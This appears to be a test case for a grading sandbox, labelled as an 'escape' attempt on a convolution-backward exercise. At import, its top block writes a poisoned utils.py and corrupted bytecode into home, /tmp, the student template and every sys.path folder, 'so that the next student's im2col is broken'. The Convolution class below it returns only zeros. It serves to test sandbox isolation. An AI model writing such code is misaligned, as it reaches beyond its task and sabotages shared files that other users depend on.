# task: conv_backward
# family: escape
# expect: failed
# codes: WRONG_VALUES
# post: next
# why: overwrite utils.py (and its bytecode) wherever it can, so that the next student's im2col is broken
import os
import sys

import numpy as np

poison = "def im2col(*a, **k):\n    raise SystemExit('poisoned')\n\ncol2im = im2col\n"
for folder in {".", os.environ.get("HOME", "."), "/tmp", "@@CHECKOUT@@/student_template"} | set(p for p in sys.path if p):
    try:
        with open(os.path.join(folder, "utils.py"), "w") as handle:
            handle.write(poison)
    except OSError:
        pass
    try:
        os.makedirs(os.path.join(folder, "__pycache__"), exist_ok=True)
        with open(os.path.join(folder, "__pycache__", "utils.cpython-311.pyc"), "wb") as handle:
            handle.write(b"\x00" * 64)
    except OSError:
        pass


class Convolution:
    def __init__(self, W, b, stride=1, pad=0):
        self.W, self.b, self.stride, self.pad = W, b, stride, pad
        self.dW = None
        self.db = None

    def forward(self, x):
        self.x = x
        FN, C, FH, FW = self.W.shape
        N, C, H, W = x.shape
        out_h = (H + 2 * self.pad - FH) // self.stride + 1
        out_w = (W + 2 * self.pad - FW) // self.stride + 1
        return np.zeros((N, FN, out_h, out_w))

    def backward(self, dout):
        self.dW = np.zeros_like(self.W)
        self.db = np.zeros_like(self.b)
        return np.zeros_like(self.x)
